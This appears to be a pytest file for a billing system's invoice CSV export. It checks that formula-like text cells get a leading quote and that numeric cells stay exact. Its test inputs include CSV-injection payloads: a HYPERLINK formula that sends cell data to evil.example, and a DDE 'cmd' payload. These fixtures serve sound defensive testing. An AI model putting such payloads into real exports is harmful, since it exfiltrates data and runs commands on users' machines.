"""Invoice documents: the CSV export cannot carry a spreadsheet formula, and stays exact."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pytest

from billing.documents import CSV_COLUMNS, CSV_TEXT_COLUMNS, csv_rows, csv_text
from billing.repository import StoredInvoice


def invoice(tenant: str, **kw: object) -> StoredInvoice:
    base: dict[str, object] = dict(
        id=1, tenant=tenant, period="2026-10", revision=3, status="draft", currency="JPY",
        minor_units=0, catalog_version="2019-10", standard_units=1, micro_units=0,
        subtotal=1667, tax=166, total=1833, content_hash="ab12", created_by="ops@h",
        created_at=datetime(2026, 11, 1, tzinfo=UTC), reason=None, finalized_at=None,
        adjustments=({"amount": -500, "adjusts_revision": 2},))
    base.update(kw)
    return StoredInvoice(**base)  # type: ignore[arg-type]


@pytest.mark.parametrize("tenant", [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3",
    "@SUM(A1:A9)", "\t=1+1", "\r=1+1",
])
def test_text_cells_that_look_like_formulas_get_a_quote(tenant: str) -> None:
    [row] = csv_rows("2026-10", [invoice(tenant)])
    cells = dict(zip(CSV_COLUMNS, row, strict=True))
    assert cells["tenant"] == "'" + tenant


def test_numbers_stay_numbers_and_ordinary_text_is_unchanged() -> None:
    inv = invoice("acme", catalog_version="-draft-catalog", minor_units=2, total=-123456)
    text = io.StringIO()
    csv.writer(text).writerows(csv_rows("2026-10", [inv]))
    [row] = list(csv.reader(io.StringIO(text.getvalue())))
    cells = dict(zip(CSV_COLUMNS, row, strict=True))
    assert cells["tenant"] == "acme" and cells["status"] == "draft"
    assert cells["catalog"] == "'-draft-catalog"  # text: neutralized too
    assert cells["adjustment"] == "-5.00" and cells["total"] == "-1234.56"  # exact numbers
    assert (cells["revision"], cells["adjusts_revision"]) == ("3", "2")
    assert {c for c in CSV_COLUMNS if c not in CSV_TEXT_COLUMNS} == {
        "revision", "standard_units", "micro_units", "subtotal", "tax", "total", "adjustment",
        "adjusts_revision"}


def test_csv_text_leaves_safe_text_alone() -> None:
    assert csv_text("acme=corp") == "acme=corp"
    assert csv_text("日本") == "日本"
    assert csv_text("") == ""
